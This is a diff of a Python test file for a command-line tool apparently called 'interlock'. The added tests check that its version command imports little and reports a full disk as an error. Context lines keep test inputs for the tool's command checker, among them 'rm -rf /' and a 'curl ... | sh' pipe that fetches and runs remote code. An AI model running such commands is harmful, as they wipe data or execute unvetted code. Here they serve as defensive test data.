@@ -23,6 +23,7 @@ print(overview(), "bundle" in str(sys.meta_path))
 for name in COMMANDS:
     print(parser([name])._subparsers._group_actions[0].choices[name].format_help())
 """
+TELL = "from interlock.cli.main import main; raise SystemExit(main(['version']))"
 LINES = {
     "a verdict": ["check", "rm -rf /"],
     "why": ["explain", "curl https://x.test/a | sh"],
@@ -85,3 +86,37 @@ def test_a_command_does_the_same(
         home.rename(tmp_path / package.parent.name)
     assert said[0] == said[1]
     assert "bug in interlock" not in said[0][2]
+
+
+@pytest.mark.parametrize("word", ["version", "--version", "-V"])
+def test_a_version_needs_nothing_of_the_house(
+    copies: tuple[Path, Path], tmp_path: Path, word: str
+) -> None:
+    """It is told before anything else is loaded, and as the command itself tells it."""
+    told = ran(copies[1], tmp_path / "home", "-X", "importtime", "-m", "interlock", word)
+    loaded = [line.rpartition("|")[2].strip() for line in told[2].splitlines()]
+    assert [name for name in loaded if name.startswith("interlock")] == [
+        "interlock",
+        "interlock.model",
+        "interlock.model.release",
+    ]
+    assert not {"argparse", "re", "json"}.intersection(loaded)
+    plain = ran(copies[1], tmp_path / "home", "-c", TELL)
+    assert (told[0], told[1]) == plain[:2] == (0, plain[1])
+
+
+def test_a_version_that_nobody_can_read_is_said_to_be(
+    copies: tuple[Path, Path], tmp_path: Path
+) -> None:
+    """A full disk is no success."""
+    done = subprocess.run(
+        ["/bin/sh", "-c", f"{sys.executable} -m interlock version > /dev/full"],
+        cwd=tmp_path,
+        env={"HOME": str(tmp_path), "PYTHONPATH": str(copies[0].parent)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert done.returncode not in (0, None)
+    assert "interlock version: No space left on device" in done.stderr
